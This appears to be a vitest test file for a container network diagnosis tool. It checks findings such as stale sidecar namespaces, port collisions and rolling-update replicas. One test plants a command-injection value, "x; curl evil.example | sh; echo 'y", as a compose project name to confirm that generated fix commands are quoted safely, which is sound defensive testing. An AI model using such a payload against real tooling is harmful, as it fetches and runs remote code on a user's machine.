import { describe, expect, it } from 'vitest';
import { diagnoseTopology } from '@/lib/diagnose';
import type { Topology } from '@/lib/model/topology';
import { byService, fixtureTopology } from '../helpers';

const rules = (t: Topology, rule: string) => t.findings.filter((f) => f.rule === rule);

describe('static findings on recorded scans', () => {
  it('loopback-only listener: published and needed by peers, with evidence and fix', () => {
    const t = fixtureTopology('lab');
    const [f] = rules(t, 'loopback-only-listener');
    expect(f?.severity).toBe('error');
    expect(f?.subject.id).toBe(byService(t, 'gateway-loopback').id);
    expect(f?.evidence.map((e) => e.label)).toEqual(
      expect.arrayContaining(['listener', 'published port', 'peers']),
    );
    expect(f?.evidence.find((e) => e.label === 'listener')?.value).toContain('127.0.0.1:18789');
    expect(['proc', 'netlink']).toContain(f?.evidence.find((e) => e.label === 'listener')?.source);
    expect(f?.fix).toMatch(/0\.0\.0\.0/);
  });

  it('stale sidecar after the owner restarted: namespaces diverged', () => {
    const t = fixtureTopology('lab-gateway-restarted');
    const f = rules(t, 'stale-shared-netns');
    expect(f).toHaveLength(1);
    expect(f[0]?.id).toMatch(/:diverged$/);
    expect(f[0]?.subject.id).toBe(byService(t, 'cli-sidecar').id);
    expect(f[0]?.fix).toMatch(/restart cli-sidecar/);
    expect(f[0]?.evidence.filter((e) => e.value.startsWith('netns:'))).toHaveLength(2);
  });

  it('stale sidecar after the owner was recreated: the named container is gone', () => {
    const t = fixtureTopology('lab-gateway-recreated');
    const f = rules(t, 'stale-shared-netns');
    expect(f).toHaveLength(1);
    expect(f[0]?.id).toMatch(/:gone$/);
    expect(f[0]?.fix).toMatch(/up -d --force-recreate --no-deps cli-sidecar/);
  });

  it('healthy sidecar: no stale finding', () => {
    expect(rules(fixtureTopology('lab'), 'stale-shared-netns')).toEqual([]);
  });

  it('rolling update: two live replicas with different config', () => {
    const t = fixtureTopology('rolling-update');
    const f = rules(t, 'rolling-update-replicas');
    expect(f).toHaveLength(1);
    expect(f[0]?.evidence).toHaveLength(2);
    expect(f[0]?.related).toHaveLength(1);
    expect(rules(fixtureTopology('lab'), 'rolling-update-replicas')).toEqual([]);
  });

  it('fix commands quote names taken from labels: a hostile compose project cannot inject a command', () => {
    const t = fixtureTopology('rolling-update');
    const hostile = "x; curl evil.example | sh; echo 'y";
    for (const c of t.containers) if (c.compose) c.compose.project = hostile;
    const fix = diagnoseTopology(t).find((f) => f.rule === 'rolling-update-replicas')?.fix ?? '';
    expect(fix).toContain(`docker compose -p 'x; curl evil.example | sh; echo '\\''y'`);
  });

  it('host-network port collision names both claimants', () => {
    const t = fixtureTopology('host-port-collision');
    const f = rules(t, 'host-port-collision');
    expect(f).toHaveLength(1);
    expect(f[0]?.id).toContain('tcp-28791');
    const labels = f[0]?.evidence.map((e) => e.label) ?? [];
    expect(labels).toContain('reachmap-fixture-hostclash');
    expect(labels.some((l) => l.includes('hostnet'))).toBe(true);
    expect(rules(fixtureTopology('lab'), 'host-port-collision')).toEqual([]);
  });

  it('a published port with nothing listening behind it', () => {
    const t = fixtureTopology('lab');
    const gw = byService(t, 'gateway');
    const ns = t.namespaces.find((n) => n.id === gw.netns);
    if (!ns) throw new Error('no ns');
    // The recorded gateway, with its listener gone (e.g. still starting).
    ns.listeners = ns.listeners.filter((l) => l.port !== 18789);
    gw.startedAt = new Date(Date.parse(t.scannedAt) - 600_000).toISOString();
    const f = diagnoseTopology(t).filter((x) => x.rule === 'published-port-no-listener');
    expect(f.map((x) => [x.subject.id, x.severity])).toEqual([[gw.id, 'warning']]);

    // Moments after start (or while the healthcheck says "starting") it is only a hint.
    gw.startedAt = new Date(Date.parse(t.scannedAt) - 5_000).toISOString();
    const early = diagnoseTopology(t).filter((x) => x.rule === 'published-port-no-listener');
    expect(early.map((x) => x.severity)).toEqual(['info']);
    expect(early[0]?.message).toContain('scan again');
  });

  it('findings are ordered by severity and have stable ids', () => {
    const a = fixtureTopology('rolling-update').findings;
    const b = fixtureTopology('rolling-update').findings;
    expect(a.map((f) => f.id)).toEqual(b.map((f) => f.id));
    const order = { error: 0, warning: 1, info: 2 };
    expect(a.map((f) => order[f.severity])).toEqual([...a.map((f) => order[f.severity])].sort());
  });
});
